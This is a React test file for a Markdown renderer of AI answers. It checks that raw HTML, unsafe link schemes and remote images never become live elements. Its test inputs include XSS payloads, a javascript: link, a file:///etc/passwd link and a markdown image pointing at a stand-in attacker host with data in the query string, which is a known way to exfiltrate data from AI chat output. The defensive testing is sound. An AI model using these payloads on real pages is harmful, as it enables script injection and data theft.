import { cleanup, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { AnswerMarkdown } from "./answer-markdown";

afterEach(cleanup);

function show(text: string, isStreaming = false): HTMLElement {
  return render(<AnswerMarkdown text={text} isStreaming={isStreaming} />).container;
}

describe("an answer", () => {
  it("is set as Markdown", () => {
    const answer = show("The devices are **disabled**.\n\n- `MI-001`\n- MI-002");
    expect(answer.querySelector("strong")?.textContent).toBe("disabled");
    expect([...answer.querySelectorAll("li")].map((item) => item.textContent)).toEqual(["MI-001", "MI-002"]);
  });

  it.each([
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe src='https://evil.test'></iframe>",
    "<a href='https://evil.test'>here</a>",
    "<button>Approve</button>",
    "text <b onclick=alert(1)>bold</b>",
  ])("never becomes an element of the raw HTML %s", (html) => {
    const answer = show(html);
    expect(answer.querySelector("img, script, iframe, a, button, b, [onclick], [onerror]")).toBeNull();
  });

  it("keeps each name with hyphens on one line, in text, lists, tables and emphasis", () => {
    const answer = show("In MI-001\n\n- MI-002\n\n**MI-003**\n\n| Name |\n| - |\n| MI-004 |");
    const kept = [...answer.querySelectorAll(".whitespace-nowrap")].map((each) => each.textContent);
    expect(kept).toEqual(["MI-001", "MI-002", "MI-003", "MI-004"]);
  });

  it("names an image instead of loading it, since its address could carry data away", () => {
    const answer = show("![the map](https://evil.test/?data=secret)");
    expect(answer.querySelector("img")).toBeNull();
    expect(answer.innerHTML).not.toContain("evil.test");
    expect(answer.textContent).toContain("[image: the map]");
  });

  it.each([
    "[go](javascript:alert(1))",
    "[go](data:text/html,x)",
    "[go](vbscript:x)",
    "[go](file:///etc/passwd)",
  ])("makes no link of %s", (markdown) => {
    expect(show(markdown).querySelector("a")).toBeNull();
  });

  it("says where a link leads and gives it nothing of this page", () => {
    show("[the docs](https://docs.example/path)");
    const link = screen.getByRole("link");
    expect(link.textContent).toBe("the docs (docs.example)");
    expect(link.getAttribute("rel")).toContain("noopener");
    expect(link.getAttribute("rel")).toContain("noreferrer");
  });

  it.each(["**half", "`half", "[half](https://", "| a | b |\n| -", "```js\nlet"])(
    "is readable while it streams and ends with %j",
    (text) => {
      expect(show(text, true).textContent).not.toBe("");
    },
  );
});
